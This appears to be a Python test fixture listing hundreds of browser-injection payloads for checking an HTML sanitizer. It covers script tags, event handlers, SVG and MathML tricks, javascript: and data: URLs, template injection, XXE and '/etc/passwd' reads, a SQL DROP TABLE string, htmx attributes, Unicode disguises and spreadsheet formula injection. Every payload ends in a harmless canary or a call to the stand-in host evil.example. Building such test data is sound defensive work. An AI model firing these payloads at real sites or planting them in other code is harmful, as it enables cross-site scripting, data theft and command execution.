r"""What somebody writes who wants an owner's browser to do something: tags, handlers, addresses, ends of where a text may stand,
templates, htmx, formulas. All that run end at the canary: `__hit`, `alert`, `print`, or a request to `evil.example`.
"""

TAGS = r"""
<script>__hit(1)</script>
<SCRIPT>alert(2)</SCRIPT>
<script src=//evil.example/3.js></script>
<script type=module>__hit(4)</script>
<script>__hit`5`</script >
<scr<script>ipt>__hit(6)</scr</script>ipt>
<script/x>__hit(7)</script>
<script async src="data:text/javascript,__hit(8)"></script>
<script type=importmap>{"imports":{"a":"//evil.example/9.js"}}</script>
<iframe src=javascript:parent.__hit(10)></iframe>
<iframe srcdoc="<script>parent.__hit(11)</script>"></iframe>
<iframe src=//evil.example/12></iframe>
<object data=javascript:__hit(13)></object>
<object data=//evil.example/14.svg></object>
<embed src=//evil.example/15.swf>
<embed src=javascript:__hit(16)>
<link rel=stylesheet href=//evil.example/17.css>
<link rel=prefetch href=//evil.example/18>
<link rel=preload as=image href=//evil.example/19.png>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example/21">
<meta http-equiv=refresh content="0;url=javascript:__hit(22)">
<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">
<style>@import '//evil.example/24.css';</style>
<style>*{background:url(//evil.example/25)}</style>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="__hit(26)"></b>
<form action=//evil.example/27><button>press</button></form>
<form><button formaction=javascript:__hit(28)>press</button></form>
<input type=image src=//evil.example/29 onerror=__hit(29)>
<isindex action=javascript:__hit(30) type=submit>
<template><script>__hit(31)</script></template>
<portal src=//evil.example/32></portal>
<frameset onload=__hit(33)>
<applet code=x archive=//evil.example/34.jar></applet>
<noscript><p title="</noscript><img src=x onerror=__hit(35)>">
<xss id=x tabindex=1 onfocus=__hit(36) autofocus></xss>
<dialog open onclose=__hit(37)><form method=dialog><button>x</button></form></dialog>
<a href=//evil.example/38 ping=//evil.example/39>news</a>
<area shape=default href=javascript:__hit(40)>
"""

HANDLERS = (
    r"""
<img src=x onerror=__hit(1)>
<img src=x onerror=alert(2)>
<img src=x onerror="print(3)">
<img src=x onerror=&#95;&#95;hit(4)>
<img src=x onerror=window['__h'+'it'](5)>
<img src=x onerror=eval(atob('X19oaXQoNik='))>
<img src=//evil.example/7.png>
<img srcset=//evil.example/8.png>
<IMG """
    '"""'
    r"""><SCRIPT>__hit(9)</SCRIPT>">
<img/src=x/onerror=__hit(10)>
<img src=x onerror = __hit(11)>
<image src=x onerror=__hit(12)>
<body onload=__hit(13)>
<body onpageshow=__hit(14)>
<input autofocus onfocus=__hit(15)>
<select autofocus onfocus=__hit(16)><option>x</select>
<textarea autofocus onfocus=__hit(17)>x</textarea>
<button autofocus onfocus=__hit(18)>x</button>
<details open ontoggle=__hit(19)><summary>x</summary></details>
<video><source onerror=__hit(20)></video>
<video src=x onerror=__hit(21)></video>
<video poster=//evil.example/22.png></video>
<audio src=x onerror=__hit(23)>
<audio autoplay onloadstart=__hit(24) src=x>
<marquee onstart=__hit(25)>x</marquee>
<div onmouseover=__hit(26)>move here</div>
<div onpointerrawupdate=__hit(27)>move here</div>
<p style="width:9999px;height:9999px" onmouseenter=__hit(28)>x</p>
<b onclick=__hit(29)>press</b>
<div contenteditable onbeforeinput=__hit(30)>x</div>
<div onscrollend=__hit(31) style="overflow:auto">x</div>
<div popover onbeforetoggle=__hit(32)>x</div>
<iframe onload=__hit(33)></iframe>
<object onerror=__hit(34) data=x>
<style onload=__hit(35)></style>
<link rel=stylesheet href=x onerror=__hit(36)>
<div style="content-visibility:auto" oncontentvisibilityautostatechange=__hit(37)>x</div>
<input type=hidden oncontentvisibilityautostatechange=__hit(38) style=content-visibility:auto>
"""
)

ATTRIBUTES = r"""
"><img src=x onerror=__hit(1)>
'><img src=x onerror=__hit(2)>
" autofocus onfocus=__hit(3) x="
' autofocus onfocus=__hit(4) x='
"onmouseover="__hit(5)
'onmouseover='__hit(6)
` onmouseover=`__hit(7)
 autofocus onfocus=__hit(8)
" style="animation-name:x" onanimationstart="__hit(9)
"/><script>__hit(10)</script>
'/><script>__hit(11)</script>
"></a><script>__hit(12)</script>
"></option></select><img src=x onerror=__hit(13)>
"}'><img src=x onerror=__hit(14)>
\"><img src=x onerror=__hit(15)>
\'><img src=x onerror=__hit(16)>
&quot;><img src=x onerror=__hit(17)>
&#34; onfocus=__hit(18) autofocus &#34;
"></textarea><img src=x onerror=__hit(19)>
"></title><img src=x onerror=__hit(20)>
"]}],"onload":"__hit(21)
"accesskey="x" onclick="__hit(22)
"""

DRAWN = r"""
<svg onload=__hit(1)>
<svg/onload=__hit(2)>
<svg><script>__hit(3)</script></svg>
<svg><script href=//evil.example/4.js></script></svg>
<svg><script>&#95;&#95;hit(5)</script></svg>
<svg><a xlink:href=javascript:__hit(6)><text x=9 y=9>press</text></a></svg>
<svg><animate onbegin=__hit(7) attributeName=x dur=1s>
<svg><set onbegin=__hit(8) attributename=x to=1>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"></use></svg>
<svg><use href=//evil.example/10.svg#x></use></svg>
<svg><image href=//evil.example/11.png onerror=__hit(11)></svg>
<svg><foreignObject><img src=x onerror=__hit(12)></foreignObject></svg>
<svg><style><img src=x onerror=__hit(13)></style></svg>
<svg><title><img src=x onerror=__hit(14)></title></svg>
<svg><desc><img src=x onerror=__hit(15)></desc></svg>
<math><mi//xlink:href="data:x,<script>__hit(16)</script>">
<math href=javascript:__hit(17)>press</math>
<math><mtext><table><mglyph><style><img src=x onerror=__hit(18)></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=__hit(19)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__hit(20)>
"""

ADDRESSES = r"""
javascript:__hit(1)
JavaScript:alert(2)
javascript://evil.example/%0a__hit(3)
javascript:/*--></title></style></script>*/__hit(4)
java&#09;script:__hit(5)
java&Tab;script:__hit(6)
&#106;avascript:__hit(7)
javascript&colon;__hit(8)
\x6Aavascript:__hit(9)
data:text/html,<script>__hit(10)</script>
data:text/html;base64,PHNjcmlwdD5fX2hpdCgxMSk8L3NjcmlwdD4=
data:image/svg+xml,<svg onload=__hit(12)>
vbscript:msgbox(13)
//evil.example/14
\\evil.example\15
https:evil.example/16
https://evil.example/17?x="><script>__hit(17)</script>
/\evil.example/18
<a href=javascript:__hit(19)>press</a>
<a href="&#1;javascript:__hit(20)">press</a>
<a href=data:text/html,<script>__hit(21)</script>>press</a>
[press](javascript:__hit(22))
![x](//evil.example/23.png)
view-source:javascript:__hit(24)
blob:https://evil.example/25
"""

TEMPLATES = r"""
{{ 7 * 7 }}
{{ config }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}
{% include "/etc/passwd" %}
{# a comment #}
{{ "<script>__hit(7)</script>" | safe }}
{{constructor.constructor('__hit(8)')()}}
${__hit(9)}
${{__hit(10)}}
#{__hit(11)}
<%= __hit(12) %>
<?php echo '<script>__hit(13)</script>' ?>
@{__hit(14)}
[[__hit(15)]]
%(name)s %s %n {0} {query} %(n)s
`${__hit(17)}`
{{#with x}}{{__hit(18)}}{{/with}}
<div v-on:click=__hit(19) x-data x-init=__hit(20) ng-app ng-init=__hit(21)>x</div>
';__hit(22);//
");__hit(23);("
\u003cscript\u003e__hit(24)\u003c/script\u003e
' OR 1=1; DROP TABLE answers; --
"""

ENDS = r"""
</script><script>__hit(1)</script>
</SCRIPT ><img src=x onerror=__hit(2)>
<!--<script>--><img src=x onerror=__hit(3)>
--><img src=x onerror=__hit(4)><!--
--!><img src=x onerror=__hit(5)>
<!--><img src=x onerror=__hit(6)>-->
<![CDATA[<img src=x onerror=__hit(7)>]]>
]]><img src=x onerror=__hit(8)>
</style><img src=x onerror=__hit(9)>
</title><img src=x onerror=__hit(10)>
</textarea><img src=x onerror=__hit(11)>
</select><img src=x onerror=__hit(12)>
</template><img src=x onerror=__hit(13)>
</noscript><img src=x onerror=__hit(14)>
</xmp></listing></plaintext><img src=x onerror=__hit(15)>
</svg></math><img src=x onerror=__hit(16)>
<plaintext><b>17
<xmp><img src=x onerror=__hit(18)>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
<?xml version="1.0"?><?xml-stylesheet href="javascript:__hit(20)"?>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">__hit(21)</x:script>
"""

LETTERS = r"""
&lt;img src=x onerror=__hit(3)&gt;
&amp;lt;img src=x onerror=__hit(4)&amp;gt;
&#60;img src=x onerror=__hit(5)&#62;
&#x3c;img src=x onerror=__hit(6)&#x3e;
%3Cimg%20src%3Dx%20onerror%3D__hit(7)%3E
%253Cimg src=x onerror=__hit(8)%253E
+ADw-script+AD4-__hit(9)+ADw-/script+AD4-
\u{3c}img src=x onerror=__hit(18)\u{3e}
<img src=x onerror=\u005f_hit(19)>
< img src=x onerror=__hit(20)>
<<img src=x onerror=__hit(21)>>
<img src=x onerror=__hit(22)//
"""
# Full-width and other forms of < and of letters, and what nobody sees.
DISGUISED = [
    "\uff1cscript\uff1e__hit(1)\uff1c/script\uff1e",
    "\uff1cimg src=x onerror=__hit(2)\uff1e",
    "\u2039img src=x onerror=__hit(3)\u203a",
    "\ufe64img src=x onerror=__hit(4)\ufe65",
    "<\u017fcript>__hit(5)</\u017fcript>",
    "<\u0131mg src=x onerror=__hit(6)>",
    "<img\u00a0src=x onerror=__hit(7)>",
    "<img\u2003src=x onerror=__hit(8)>",
    "<img\u200b src=x onerror=__hit(9)>",
    "\u202e<img src=x onerror=__hit(10)>",
    "\u2066<img src=x onerror=__hit(11)>\u2069",
    "\ufeff<img src=x onerror=__hit(12)>",
    "\u2028<img src=x onerror=__hit(13)>\u2029",
    "\U0001d541avascript:__hit(14)",
    "java\u00adscript:__hit(15)",
    "\u0085<svg onload=__hit(16)>",
    "Z\u0338\u0322\u034ea\u0335<img src=x onerror=__hit(17)>",
    "\ufffd\ufffe<img src=x onerror=__hit(18)>",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
]

HTMX = r"""
<div hx-get=//evil.example/1 hx-trigger=load>x</div>
<div data-hx-get=//evil.example/2 data-hx-trigger=load>x</div>
<div hx-on:htmx:load=__hit(3)>x</div>
<div hx-on::load=__hit(4) hx-get=/app/overview hx-trigger=load>x</div>
<div hx-post=/app/sign-out hx-trigger=load>x</div>
<div hx-delete=/app/overview hx-trigger="every 1s">x</div>
<div hx-vals="js:{x:__hit(7)}" hx-get=/app hx-trigger=load>x</div>
<div hx-trigger="load[__hit(8)]" hx-get=/app>x</div>
" hx-get="//evil.example/9" hx-trigger="load
<script hx-ext>__hit(10)</script>
<div hx-disable=false hx-boost=true><a href=//evil.example/11>x</a></div>
<meta name=htmx-config content='{"mode":"cors"}'>
<hx-partial hx-target=body><img src=x onerror=__hit(13)></hx-partial>
<div hx-swap-oob=true id=main><img src=x onerror=__hit(14)></div>
"""

FORMULAS = r"""
=1+1
=HYPERLINK("https://evil.example/"&A1,"press")
=cmd|' /C calc'!A0
+1+1
+HYPERLINK("https://evil.example/","x")
-1+1
-2+3+cmd|' /C calc'!A0
@SUM(1+1)
@evil.example
;=1+1
,=1+1
"=1+1"
'=1+1
  =1+1
"""

# Only a text of several lines may hold these.
IN_LINES = [
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "x\n=1+1",
    "x\r\n@SUM(1+1)",
    "\t+1<img src=x onerror=__hit(1)>",
    "a\tb\r\n<svg onload=__hit(2)>",
]

PAYLOADS = list(
    dict.fromkeys(
        line
        for group in (
            *(
                each.split("\n")
                for each in (
                    TAGS,
                    HANDLERS,
                    ATTRIBUTES,
                    DRAWN,
                    ADDRESSES,
                    TEMPLATES,
                    ENDS,
                    LETTERS,
                    HTMX,
                    FORMULAS,
                )
            ),
            DISGUISED,
        )
        for line in group
        if line.strip()
    )
)
